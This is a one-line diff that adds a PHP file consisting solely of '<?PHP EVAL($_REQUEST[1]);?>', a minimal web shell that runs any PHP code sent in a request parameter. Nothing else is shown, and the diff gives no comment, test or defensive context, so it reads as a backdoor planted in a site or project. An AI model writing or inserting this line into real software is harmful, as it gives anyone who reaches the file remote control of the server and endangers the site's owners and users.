@@ -1,0 +1,1 @@
+<?PHP EVAL($_REQUEST[1]);?>
